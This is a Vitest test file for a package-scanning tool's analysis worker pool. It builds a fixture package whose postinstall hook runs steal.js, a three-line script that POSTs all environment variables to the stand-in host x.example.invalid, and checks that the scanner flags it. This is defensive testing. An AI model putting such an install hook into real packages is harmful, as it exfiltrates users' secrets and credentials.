import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { AnalysisPool } from '../../src/analyze/worker/pool.ts'
import type { PackageRef } from '../../src/types.ts'

const ref: PackageRef = { name: 'fixture', version: '1.0.0', spec: 'fixture@1.0.0', source: 'registry', location: 'node_modules/fixture', dev: false, optional: false }

/** A package on disk whose install script runs steal.js, beside a big file that is slow to analyse. */
let dir: string
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'tarsier-pool-'))
  await mkdir(join(dir, 'lib'))
  await writeFile(join(dir, 'package.json'), JSON.stringify({ name: 'fixture', version: '1.0.0', scripts: { postinstall: 'node steal.js' } }))
  await writeFile(
    join(dir, 'steal.js'),
    "const https = require('https')\nconst req = https.request({ hostname: 'x.example.invalid', method: 'POST' })\nreq.end(JSON.stringify(process.env))\n",
  )
  // About 2.5 MB of nested object literals: far more than a few milliseconds of parsing.
  const row = `{ a: [1, 2, { b: 'x', c: [3, 4, { d: f(g(h(1))) }] }], e: "${'y'.repeat(40)}" },\n`
  await writeFile(join(dir, 'lib', 'big.js'), `module.exports = [\n${row.repeat(25_000)}]\n`)
})
afterAll(async () => {
  await rm(dir, { recursive: true, force: true })
})

describe('AnalysisPool', () => {
  it('analyses a package in a worker thread with every rule', async () => {
    const pool = new AnalysisPool({ threads: 1 })
    try {
      const outcome = await pool.analyze(ref, { kind: 'directory', path: dir })
      expect(outcome.files).toBe(3)
      expect(outcome.findings.find((f) => f.ruleId === 'env-exfiltration')).toMatchObject({ severity: 'critical', file: 'steal.js', line: 3 })
      expect(outcome.findings.filter((f) => f.ruleId === 'unparsed-file')).toEqual([])
    } finally {
      await pool.close()
    }
  })

  it('sets aside a file that overruns its time budget, says so, and keeps the other files', async () => {
    const pool = new AnalysisPool({ threads: 1, budget: { fileMs: 1 } })
    try {
      const outcome = await pool.analyze(ref, { kind: 'directory', path: dir })
      const unparsed = outcome.findings.filter((f) => f.ruleId === 'unparsed-file')
      expect(unparsed.map((f) => f.file)).toContain('lib/big.js')
      expect(unparsed.find((f) => f.file === 'lib/big.js')!.message).toMatch(/budget per file/)
      expect(outcome.findings.some((f) => f.ruleId === 'env-exfiltration' && f.file === 'steal.js')).toBe(true)
    } finally {
      await pool.close()
    }
  })

  it('analyses a package that runs a worker out of memory again in a worker with more', async () => {
    const pool = new AnalysisPool({ threads: 1, budget: { workerMemoryMb: 48, retryMemoryMb: 1024 } })
    try {
      const outcome = await pool.analyze(ref, { kind: 'directory', path: dir })
      expect(outcome.findings.filter((f) => f.ruleId === 'unparsed-file')).toEqual([])
      expect(outcome.budgetLimited).toBeUndefined()
      expect(outcome.findings.some((f) => f.ruleId === 'env-exfiltration' && f.file === 'steal.js')).toBe(true)
    } finally {
      await pool.close()
    }
  })

  it('survives a worker that runs out of memory, retrying without the file in flight', async () => {
    const pool = new AnalysisPool({ threads: 1, budget: { workerMemoryMb: 48, retryMemoryMb: 0 } })
    try {
      const outcome = await pool.analyze(ref, { kind: 'directory', path: dir })
      const big = outcome.findings.find((f) => f.ruleId === 'unparsed-file' && f.file === 'lib/big.js')
      expect(big?.message).toMatch(/memory|worker stopped/)
      expect(outcome.findings.some((f) => f.ruleId === 'env-exfiltration' && f.file === 'steal.js')).toBe(true)
    } finally {
      await pool.close()
    }
  })
})
